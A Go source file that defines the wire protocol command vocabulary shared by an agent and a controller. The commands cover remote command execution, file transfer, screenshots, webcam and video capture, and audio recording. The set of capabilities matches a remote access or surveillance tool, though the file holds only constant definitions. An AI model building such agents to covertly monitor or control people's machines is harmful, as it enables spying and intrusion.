// ABOUTME: Command type vocabulary shared by agent and controller.
// ABOUTME: The set is closed; Parse rejects anything outside it.

package protocol

// CommandType identifies a remote command on the wire.
type CommandType string

const (
	CmdGetSysinfo         CommandType = "get_sysinfo"
	CmdExecuteCommand     CommandType = "execute_command"
	CmdListDirectory      CommandType = "list_directory"
	CmdDownloadFile       CommandType = "download_file"
	CmdUploadFile         CommandType = "upload_file"
	CmdTakeScreenshot     CommandType = "take_screenshot"
	CmdListCameras        CommandType = "list_cameras"
	CmdCaptureWebcam      CommandType = "capture_webcam"
	CmdRecordVideo        CommandType = "record_video"
	CmdListAudioDevices   CommandType = "list_audio_devices"
	CmdRecordAudio        CommandType = "record_audio"
	CmdStopAudioRecording CommandType = "stop_audio_recording"
)

var allCommands = []CommandType{
	CmdGetSysinfo,
	CmdExecuteCommand,
	CmdListDirectory,
	CmdDownloadFile,
	CmdUploadFile,
	CmdTakeScreenshot,
	CmdListCameras,
	CmdCaptureWebcam,
	CmdRecordVideo,
	CmdListAudioDevices,
	CmdRecordAudio,
	CmdStopAudioRecording,
}

// AllCommands returns every known command type in a stable order.
func AllCommands() []CommandType {
	out := make([]CommandType, len(allCommands))
	copy(out, allCommands)
	return out
}

// Known reports whether t is part of the command vocabulary.
func (t CommandType) Known() bool {
	for _, c := range allCommands {
		if c == t {
			return true
		}
	}
	return false
}

func (t CommandType) String() string {
	return string(t)
}

// Blob format tags carried next to base64 payloads.
const (
	FormatJPEG = "jpeg"
	FormatPNG  = "png"
	FormatWAV  = "wav"
	FormatAVI  = "avi"
)
